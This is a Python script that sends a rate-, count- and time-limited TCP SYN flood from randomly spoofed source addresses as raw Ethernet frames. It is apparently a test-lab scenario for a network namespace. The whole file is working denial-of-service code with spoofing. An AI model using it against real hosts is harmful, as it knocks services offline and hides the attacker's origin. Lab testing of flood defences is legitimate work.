#!/usr/bin/python3
"""Bounded SYN flood from spoofed sources (S17), for the client namespace.

    syn_flood.py IFACE DST_MAC DST_IP DST_PORT COUNT RATE_PPS MAX_SECONDS [SRC_NET]

Sends at most COUNT TCP SYNs, paced at RATE_PPS, for at most MAX_SECONDS, as raw
Ethernet frames on IFACE (AF_PACKET) to DST_MAC/DST_IP:DST_PORT. Each SYN has a
random source address in SRC_NET (default 198.18.0.0/15, the benchmarking
range: no real host answers), a random source port and ISN, and an MSS option.
SIGINT/SIGTERM stop it early. Prints "started" once sending, then at the end:
    sent N seconds S pps R stop count|time|signal
"""
import os
import random
import signal
import socket
import struct
import sys
import time

iface, dst_mac, dst_ip, dst_port, count, rate, max_s = sys.argv[1:8]
src_net = sys.argv[8] if len(sys.argv) > 8 else "198.18.0.0/15"
dst_port, count, rate, max_s = int(dst_port), int(count), float(rate), float(max_s)
if count <= 0 or rate <= 0 or max_s <= 0:
    sys.exit("count, rate and max seconds must be > 0")

net, plen = src_net.split("/")
net_i = struct.unpack("!I", socket.inet_aton(net))[0] & ((0xFFFFFFFF << (32 - int(plen))) & 0xFFFFFFFF)
host_span = (1 << (32 - int(plen))) - 2
with open(f"/sys/class/net/{iface}/address") as f:
    src_mac = bytes.fromhex(f.read().strip().replace(":", ""))
eth = bytes.fromhex(dst_mac.replace(":", "")) + src_mac + b"\x08\x00"
dst_b = socket.inet_aton(dst_ip)
rng = random.Random(0x5E17)


def csum(data):
    if len(data) % 2:
        data += b"\0"
    s = sum(struct.unpack("!%dH" % (len(data) // 2), data))
    while s >> 16:
        s = (s & 0xFFFF) + (s >> 16)
    return ~s & 0xFFFF


def frame():
    src_b = struct.pack("!I", net_i + 1 + rng.randrange(host_span))
    sport = rng.randrange(1024, 65536)
    seq = rng.getrandbits(32)
    opts = b"\x02\x04\x05\xb4"  # MSS 1460
    tcp = struct.pack("!HHIIBBHHH", sport, dst_port, seq, 0, (5 + len(opts) // 4) << 4, 0x02,
                      64240, 0, 0) + opts
    pseudo = src_b + dst_b + struct.pack("!BBH", 0, 6, len(tcp))
    tcp = tcp[:16] + struct.pack("!H", csum(pseudo + tcp)) + tcp[18:]
    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(tcp), rng.randrange(65536), 0x4000, 64, 6,
                     0, src_b, dst_b)
    ip = ip[:10] + struct.pack("!H", csum(ip)) + ip[12:]
    return eth + ip + tcp


stop = [None]


def on_signal(signum, _frame):
    stop[0] = "signal"


signal.signal(signal.SIGINT, on_signal)
signal.signal(signal.SIGTERM, on_signal)

s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
s.bind((iface, 0))
batch = 32
sent = 0
print("started", flush=True)
t0 = time.monotonic()
while stop[0] is None:
    now = time.monotonic()
    if now - t0 >= max_s:
        stop[0] = "time"
        break
    if sent >= count:
        stop[0] = "count"
        break
    ahead = t0 + sent / rate - now
    if ahead > 0:
        time.sleep(min(ahead, 0.05))
        continue
    for _ in range(min(batch, count - sent)):
        try:
            s.send(frame())
            sent += 1
        except OSError:  # ENOBUFS under pressure: count only what left
            time.sleep(0.0005)
            break
dt = time.monotonic() - t0
print(f"sent {sent} seconds {dt:.3f} pps {sent / max(dt, 1e-9):.0f} stop {stop[0]}", flush=True)
